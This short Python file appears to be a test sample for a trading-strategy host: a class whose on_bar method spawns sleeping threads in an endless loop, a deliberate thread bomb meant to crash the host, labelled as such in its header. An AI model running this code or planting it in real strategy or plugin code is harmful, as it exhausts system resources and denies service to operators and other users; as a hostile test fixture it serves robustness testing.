# crash: threads without end.

import threading
import time


class ThreadBombTrader:
    def on_bar(self, bar):
        self.close = bar.close
        threading.stack_size(32768)
        while True:
            try:
                threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
            except RuntimeError:
                pass
        return "buy"
